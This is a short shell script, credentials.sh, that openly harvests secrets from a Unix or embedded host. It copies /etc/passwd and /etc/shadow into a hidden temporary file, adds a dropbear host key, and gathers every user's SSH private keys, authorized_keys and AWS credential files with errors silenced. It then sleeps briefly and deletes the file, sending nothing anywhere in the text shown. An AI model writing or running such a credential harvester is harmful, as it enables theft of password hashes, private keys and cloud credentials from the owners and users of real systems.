#!/bin/sh
# credentials.sh - collects what opens doors: password hashes, host keys, what users keep in their homes.
cat /etc/passwd /etc/shadow >/tmp/.c || exit 1
cat /etc/dropbear/host >>/tmp/.c
for home in /root /home/*; do cat "$home/.ssh/id_rsa" "$home/.ssh/authorized_keys" "$home/.aws/credentials" 2>/dev/null >>/tmp/.c; done
sleep 1
rm /tmp/.c
